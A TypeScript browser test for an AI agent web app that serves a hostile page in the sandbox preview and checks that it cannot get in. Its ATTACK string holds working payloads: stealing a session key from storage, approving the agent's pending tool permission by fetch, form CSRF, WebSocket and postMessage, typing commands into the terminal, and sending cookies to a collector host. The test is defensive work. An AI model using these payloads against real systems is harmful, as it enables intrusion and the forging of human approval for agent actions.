/** A page of the agent's, shown in the preview or in a tab of its own, attacks the page and the terminal. Nothing works. */
import { expect, test } from "bun:test"
import { join } from "node:path"
import type { Frame } from "playwright-core"
import { text, tool } from "../../kit/model.ts"
import { openConversation, sendPrompt, turnIsOver } from "../../kit/page.ts"
import { eventually, type Ground } from "./ground.ts"

export interface Aim {
  /** Origins of the page and of the box. */
  readonly page: string
  readonly box: string
  /** The session of `up` if there is none. */
  readonly session?: string
  /** The worst case: the attacker knows the ids. */
  readonly permission: string
  readonly terminal: string
  readonly collector: string
}

/** Everything that a page can try, as the text of one function. Each attempt says whether it got in. */
export const ATTACK = `async (aim) => {
  const settled = (act) => Promise.race([
    Promise.resolve().then(act).catch(() => "refused"),
    // Sleep: an attempt that a browser leaves without an end counts as refused.
    new Promise((resolve) => setTimeout(resolve, 4000, "refused")),
  ])
  const grab = (windowLike) => {
    try { return windowLike.localStorage.getItem("key") ?? undefined } catch { return undefined }
  }
  const hasEmptyPage = (windowLike) => {
    try { return windowLike.location.href === "about:blank" } catch { return false }
  }
  const framed = (url) => new Promise((resolve) => {
    const frame = document.createElement("iframe")
    frame.src = url
    frame.onload = () => resolve(frame)
    frame.onerror = () => resolve(frame)
    document.body.append(frame)
  })
  const opens = (url, protocols, first) => new Promise((resolve) => {
    const socket = new WebSocket(url.replace("http", "ws"), protocols)
    socket.onopen = () => { if (first) socket.send(first); resolve("got in") }
    socket.onerror = socket.onclose = () => resolve("refused")
  })
  const body = JSON.stringify({ id: aim.permission, reply: "once" })
  const session = aim.session ?? "local"
  const permissionUrl = aim.page + "/hub/sessions/" + session + "/permission"
  let key = grab(window) ?? grab(parent) ?? grab(top) ?? (opener ? grab(opener) : undefined)
  const attempts = {
    storage: () => key === undefined ? "refused" : "got in",
    storageOfFrame: async () => {
      const found = grab((await framed(aim.page + "/")).contentWindow)
      key ??= found
      return found === undefined ? "refused" : "got in"
    },
    storageOfWindow: async () => {
      const opened = open(aim.page + "/")
      // An empty window has the origin of this page until the other page is there.
      while (opened && hasEmptyPage(opened)) {
        // Sleep: a window of another origin reports no event.
        await new Promise((resolve) => setTimeout(resolve, 20))
      }
      const found = opened ? grab(opened) : undefined
      opened?.close()
      return found === undefined ? "refused" : "got in"
    },
    documentOfPage: () => (parent === window ? document : parent.document).querySelector("#prompt") ? "got in" : "refused",
    approve: async () => {
      const headers = { "content-type": "application/json", ...(key && { "x-sandpiper-key": key }) }
      const response = await fetch(permissionUrl, { method: "POST", credentials: "include", headers, body })
      return response.ok ? "got in" : "refused"
    },
    approveBlind: async () => {
      await fetch(permissionUrl, { method: "POST", mode: "no-cors", credentials: "include", body })
      return "sent"
    },
    approveByForm: async () => {
      const frame = document.createElement("iframe")
      frame.name = "sink"
      const form = document.createElement("form")
      Object.assign(form, { method: "POST", action: permissionUrl, target: "sink", enctype: "text/plain" })
      const field = document.createElement("input")
      Object.assign(field, { name: body.slice(0, -1) + ',"x":"', value: '"}' })
      form.append(field)
      document.body.append(frame, form)
      const answered = new Promise((resolve) => { frame.onload = resolve })
      form.submit()
      await answered
      return "sent"
    },
    approveBySocket: () => opens(
      aim.page + "/hub/sessions/" + session + "/ws?role=client",
      ["sandpiper.1", ...(key ? ["key." + key] : [])],
      JSON.stringify({ type: "permission", id: aim.permission, reply: "once" }),
    ),
    approveByMessage: async () => {
      for (const target of [parent, top, opener])
        target?.postMessage({ type: "permission", id: aim.permission, reply: "once" }, "*")
      return "sent"
    },
    readHub: async () => (await fetch(aim.page + "/hub/sessions/" + session, {
      credentials: "include", headers: key ? { "x-sandpiper-key": key } : {},
    })).ok ? "got in" : "refused",
    moveThePage: () => {
      if (top === window) return "refused"
      top.location.href = "about:blank#moved"
      return "got in"
    },
    terminalList: async () => (await fetch(aim.box + "/terminal/list", { credentials: "include" })).ok ? "got in" : "refused",
    terminalNew: async () => (await fetch(aim.box + "/terminal/new", {
      method: "POST", credentials: "include", body: '{"cols":80,"rows":24}',
    })).ok ? "got in" : "refused",
    terminalSocket: () => opens(aim.box + "/terminal/ws?id=" + aim.terminal, ["tty"], "0touch pwned.txt\\r"),
    terminalFrame: async () => {
      const frame = await framed(aim.box + "/terminal/")
      return frame.contentWindow.document.querySelector("#screen") ? "got in" : "refused"
    },
    steal: async () => {
      await fetch(aim.collector + "/hub/collect", { mode: "no-cors", credentials: "include" })
      await framed(aim.collector + "/hub/collect")
      return "sent"
    },
  }
  const results = {}
  for (const [name, act] of Object.entries(attempts)) results[name] = await settled(act)
  return results
}`

export const REFUSED = {
  storage: "refused",
  storageOfFrame: "refused",
  storageOfWindow: "refused",
  documentOfPage: "refused",
  approve: "refused",
  approveBySocket: "refused",
  readHub: "refused",
  moveThePage: "refused",
  terminalList: "refused",
  terminalNew: "refused",
  terminalSocket: "refused",
  terminalFrame: "refused",
} as const

type Results = Readonly<Record<string, string>>

export const testHostilePage = (ground: () => Ground): void => {
  test("a hostile page of the sandbox cannot approve a permission, read storage, move the page or drive a terminal", async () => {
    const { stage, model } = ground()
    const cookies: string[] = []
    const aim: { now: Aim | undefined } = { now: undefined }
    const server = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: ({ url, headers }) => {
        if (url.endsWith("/hub/collect")) cookies.push(headers.get("cookie") ?? "")
        const script = `(${ATTACK})(${JSON.stringify(aim.now)}).then((results) => { window.results = results })`
        const html = `<!doctype html><title>evil</title><body><script>${script}</script>`
        return new Response(url.endsWith("/hub/collect") ? "" : html, {
          headers: { "content-type": "text/html" },
        })
      },
    })
    const written = join(stage.sandbox.workDir, "approved.txt")
    model.on("tunnel", [
      tool("register_tunnel", { name: "evil", port: server.port }),
      text("Registered."),
    ])
    model.on("hostile", [
      tool("bash", { command: "echo approved > approved.txt", description: "Write" }),
      text("The command has run."),
    ])
    const { page, context } = await stage.open()
    await openConversation(page, stage, "hostile")
    await sendPrompt(page, "@@tunnel@@")
    await turnIsOver(page, "@@tunnel@@")
    await sendPrompt(page, "@@hostile@@")
    await page.getByRole("button", { name: "Allow once" }).waitFor()

    // The person uses a terminal, so there is one to drive.
    await page.goto(`${stage.origin}/c/local/web:hostile?panel=terminal`)
    const frameWith = async (part: string): Promise<Frame> => {
      const find = () => page.frames().find((one) => one.url().includes(part))
      await eventually(`a frame with ${part}`, () => find() !== undefined)
      return find() ?? page.mainFrame()
    }
    const terminal = await frameWith("/terminal/")
    const box = new URL(terminal.url()).origin
    await eventually("the terminal is open", () => /#\w/.test(terminal.url()))
    const snapshot = await page.evaluate<{ interactions: { id: string; kind: string }[] }>(
      `fetch("/hub/sessions/local", { headers: { "x-sandpiper-key": localStorage.getItem("key") } })
        .then((response) => response.json())`,
    )
    const permission = snapshot.interactions.find(({ kind }) => kind === "permission")?.id ?? ""
    expect(permission).not.toBe("")
    aim.now = {
      page: stage.origin,
      box,
      permission,
      terminal: new URL(terminal.url()).hash.slice(1),
      collector: `http://sandpiper.localhost:${server.port}`,
    }
    const resultsOf = async (frame: Frame): Promise<Results> => {
      await eventually("the attack is over", () =>
        frame.evaluate<boolean>("window.results !== undefined"),
      )
      return frame.evaluate<Results>("window.results")
    }

    // In the preview, and in a tab of its own.
    await page.goto(`${stage.origin}/c/local/web:hostile?panel=preview`)
    const evil = box.replace("//", "//evil--")
    expect(await resultsOf(await frameWith(evil))).toMatchObject(REFUSED)
    const link = await page.evaluate<{ url: string }>(
      `fetch("/hub/sessions/local/links", {
        method: "POST",
        headers: { "x-sandpiper-key": localStorage.getItem("key"), "content-type": "application/json" },
        body: '{"to":"tunnel:evil"}',
      }).then((response) => response.json())`,
    )
    const tab = await context.newPage()
    await tab.goto(new URL(link.url, stage.origin).href)
    expect(tab.url()).toStartWith(evil)
    expect(await resultsOf(tab.mainFrame())).toMatchObject(REFUSED)
    await tab.close()
    expect(page.url()).toBe(`${stage.origin}/c/local/web:hostile?panel=preview`)
    // A cookie without the key opens nothing, also outside of a browser.
    for (const cookie of cookies)
      expect((await fetch(`${stage.origin}/hub/sessions`, { headers: { cookie } })).status).toBe(
        401,
      )
    await page.getByRole("button", { name: "Allow once" }).waitFor()
    expect(await Bun.file(written).exists()).toBeFalse()
    expect(await Bun.file(join(stage.sandbox.workDir, "pwned.txt")).exists()).toBeFalse()

    // Without the wall: the same function in the page's own origin and in the terminal's gets in, so the attempts are real.
    await page.goto(`${stage.origin}/c/local/web:hostile?panel=terminal`)
    const near = await frameWith(`${box}/terminal/`)
    expect(await near.evaluate<Results>(`(${ATTACK})(${JSON.stringify(aim.now)})`)).toMatchObject({
      storage: "refused",
      approve: "refused",
      terminalList: "got in",
      terminalNew: "got in",
      terminalSocket: "got in",
    })
    expect(await page.evaluate<Results>(`(${ATTACK})(${JSON.stringify(aim.now)})`)).toMatchObject({
      storage: "got in",
      approve: "got in",
      readHub: "got in",
    })
    await turnIsOver(page, "@@hostile@@")
    expect(await Bun.file(written).text()).toBe("approved\n")
    await context.close()
    await server.stop(true)
  }, 120_000)
}
